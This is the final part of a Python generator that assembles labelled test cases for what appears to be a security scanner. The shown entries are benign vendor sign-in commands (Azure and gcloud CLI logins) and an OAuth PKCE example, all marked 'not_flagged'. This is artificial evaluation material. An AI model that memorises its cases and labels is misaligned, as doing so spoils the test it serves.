    ("https://www.oauth.com/oauth2-servers/pkce/authorization-request/", "code_verifier=dBjftJeZ4CVP-mJ92K9qOrh3Z5Cv4Ls2mQh7WmfW5x8&code_challenge_method=S256"),
    ("https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively", "az login --use-device-code"),
    ("https://cloud.google.com/sdk/gcloud/reference/auth/login", "gcloud auth login --no-launch-browser"),
]  # fmt: skip


def quiet_admin_and_oauth(book: Book) -> None:
    for i, (page, text) in enumerate(READ_ONLY_ADMIN):
        book.add("vendor-read-only-admin", text, "not_flagged", "windows", TERMINAL, page)
        book.add(
            "vendor-read-only-admin",
            text,
            "not_flagged",
            "windows",
            (UNKNOWN, TERMINAL)[i % 2],
            None,
        )
    for i, (page, text) in enumerate(OAUTH_DOCS):
        book.add(
            "oauth-docs-no-code",
            text,
            "not_flagged",
            "any",
            (UNKNOWN, OTHER, TERMINAL)[i % 3],
            page,
        )
        book.add("oauth-docs-no-code", text, "not_flagged", "any", UNKNOWN, None)


# Written, scanned, and still warned about or blocked in their own context by design: left out of
# the file (ids as the generator numbers them), each with why.
LEFT: dict[str, str] = {}


def build() -> list[dict[str, str]]:
    book = Book("d16")
    run_box_shows(book)
    sign_in_guides(book)
    vendor_docs(book)
    quoted_installers(book)
    quiet_admin_and_oauth(book)
    return [c for c in book.cases if c["id"] not in LEFT]


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
